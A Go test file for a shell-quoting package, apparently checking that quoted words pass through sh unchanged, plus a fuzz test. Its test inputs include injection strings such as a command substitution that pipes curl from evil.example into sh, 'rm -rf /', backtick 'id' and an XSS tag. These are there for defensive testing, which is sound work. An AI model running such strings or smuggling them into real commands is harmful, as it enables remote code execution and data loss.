package shq

import (
	"os/exec"
	"strings"
	"testing"
)

var words = []string{
	"", "plain", "kube-system", "etcd-cp-1$(curl -s evil.example/x|sh)", "a`id`b", "it's", "'", "''",
	"x;rm -rf /", "a b", "*", "~root", "$HOME", "a\nb", "a\\b", "-n", "\u202eevil", "\xfe\xff", "#x", "!x",
	"<script>alert(1)</script>", "a&&b", "x>y", "{a,b}", "[ab]",
}

func TestQuoteSafe(t *testing.T) {
	for in, want := range map[string]string{
		"kube-system": "kube-system", "10.0.0.1:53": "10.0.0.1:53", "": "''", "a b": "'a b'",
		"it's": `'it'\''s'`, "a$(x)": "'a$(x)'", "~x": "'~x'",
	} {
		if got := Quote(in); got != want {
			t.Errorf("Quote(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestQuoteShell has sh read each quoted word back: printf gets exactly
// the word, and nothing else runs.
func TestQuoteShell(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	for _, w := range words {
		if strings.IndexByte(w, 0) >= 0 {
			continue
		}
		line := Command("printf", "%s|", w, w)
		out, err := exec.Command(sh, "-c", line).Output()
		if err != nil {
			t.Errorf("sh -c %q: %v", line, err)
			continue
		}
		if want := w + "|" + w + "|"; string(out) != want {
			t.Errorf("sh -c %q printed %q, want %q", line, out, want)
		}
	}
}

func FuzzQuote(f *testing.F) {
	for _, w := range words {
		f.Add(w)
	}
	f.Fuzz(func(t *testing.T, w string) {
		q := Quote(w)
		if Safe(w) {
			if q != w {
				t.Fatalf("Quote(%q) = %q, want it as it is", w, q)
			}
			return
		}
		// Outside single quotes, nothing but the escaped quotes.
		in := false
		for i := 0; i < len(q); i++ {
			switch {
			case q[i] == '\'':
				in = !in
			case !in && q[i] == '\\' && i+1 < len(q) && q[i+1] == '\'':
				i++
			case !in:
				t.Fatalf("Quote(%q) = %q: byte %d outside quotes", w, q, i)
			}
		}
		if in {
			t.Fatalf("Quote(%q) = %q: quote left open", w, q)
		}
	})
}
